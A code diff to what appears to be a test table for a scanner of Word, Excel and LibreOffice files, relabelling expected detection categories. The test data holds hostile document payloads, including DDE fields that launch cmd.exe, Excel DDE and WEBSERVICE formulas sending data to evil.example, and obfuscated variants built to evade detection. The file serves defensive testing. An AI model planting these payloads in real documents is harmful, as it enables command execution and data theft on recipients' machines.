@@ -68,38 +68,38 @@ WORD_AND_EXCEL = {
     ),
     "Word: picture from the web": (word_relations("image", "https://evil.example/seen.png", "External"), "external"),
     "Word: picture from the web, its mode unsaid": (word_relations("image", "http://evil.example/a.png"), "external"),
-    "Word: link that is a script": (word_relations("hyperlink", "javascript:alert(1)", "External"), "external"),
-    "Word: link to a share": (word_relations("hyperlink", "file://198.51.100.7/a", "External"), "external"),
-    "Word: command in a field": (field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'), "external"),
-    "Word: command in a divided field": (field("D", "DE", "AUTO", " cmd"), "external"),
-    "Word: command in a short field": (lambda: docx(body='<w:fldSimple w:instr=" &#68;DE cmd "/>'), "external"),
-    "Word: command in letters by number": (field("QUOTE 68 68 69 65 85 84 79"), "external"),
-    "Word: picture in a field": (field('INCLUDEPICTURE "http://evil.example/a.png"'), "external"),
-    "Excel: command in a cell": (lambda: xlsx(cells="<c><f>cmd|'/c calc'!A0</f></c>"), "external"),
-    "Excel: command, its sign spelled out": (lambda: xlsx(cells="<c><f>cmd|&#39;/c calc&#39;!A0</f></c>"), "external"),
+    "Word: link that is a script": (word_relations("hyperlink", "javascript:alert(1)", "External"), "link"),
+    "Word: link to a share": (word_relations("hyperlink", "file://198.51.100.7/a", "External"), "link"),
+    "Word: command in a field": (field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'), "field"),
+    "Word: command in a divided field": (field("D", "DE", "AUTO", " cmd"), "field"),
+    "Word: command in a short field": (lambda: docx(body='<w:fldSimple w:instr=" &#68;DE cmd "/>'), "field"),
+    "Word: command in letters by number": (field("QUOTE 68 68 69 65 85 84 79"), "field"),
+    "Word: picture in a field": (field('INCLUDEPICTURE "http://evil.example/a.png"'), "field"),
+    "Excel: command in a cell": (lambda: xlsx(cells="<c><f>cmd|'/c calc'!A0</f></c>"), "reference"),
+    "Excel: command, its sign spelled out": (lambda: xlsx(cells="<c><f>cmd|&#39;/c calc&#39;!A0</f></c>"), "reference"),
     "Excel: command in a sheet with a field": (
         lambda: xlsx(cells="<c><f>cmd|'/c calc'!A0</f><instrText>PAGE</instrText></c>"),
-        "external",
+        "reference",
     ),
     "Excel: command under a name": (
         lambda: xlsx(defined="<definedNames><definedName name='a'>cmd|'/c calc'!A0</definedName></definedNames>"),
-        "external",
+        "reference",
     ),
     "Excel: question to the web": (
         lambda: xlsx(cells='<c><f>_xlfn.WEBSERVICE("https://evil.example/?"&amp;A1)</f></c>'),
-        "external",
+        "function",
     ),
     "Excel: command, its sign in a section": (
         lambda: xlsx(cells="<c><f><![CDATA[cmd|'/c calc'!A0]]></f></c>"),
-        "external",
+        "reference",
     ),
     "Excel: question to the web, divided by a comment": (
         lambda: xlsx(cells='<c><f>WEB<!-- -->SERVICE("https://evil.example")</f></c>'),
-        "external",
+        "function",
     ),
     "Excel: question to the web in letters by number": (
         lambda: xlsx(cells='<c><f>&#87;EBSERVICE("https://evil.example")</f></c>'),
-        "external",
+        "function",
     ),
     "Word: command between two quotation marks": (
         lambda: docx(
@@ -108,11 +108,11 @@ WORD_AND_EXCEL = {
                 for code in ('PAGE "', "DDEAUTO cmd", '"')
             )
         ),
-        "external",
+        "field",
     ),
     "Word: command in a part elsewhere": (
         lambda: docx({"x/y.xml": f"<w:hdr {W}><w:fldSimple w:instr='DDE cmd'/></w:hdr>"}),
-        "external",
+        "field",
     ),
     "Word: text under the name of a picture": (
         lambda: docx({"word/a.png": "<a/>"}, extra=typed(f"{WORD}.footer+xml").replace("x.xml", "a.png")),
@@ -200,7 +200,7 @@ LIBREOFFICE = {
     ),
     "LibreOffice: exchange in a formula": (
         lambda: odt(kind="spreadsheet", body='<table:table-cell table:formula=\'of:=DDE("cmd";"/c calc";"A")\'/>'),
-        "external",
+        "function",
     ),
     "LibreOffice: window to elsewhere": (
         lambda: odt(body='<draw:floating-frame xlink:href="http://evil.example"/>'),
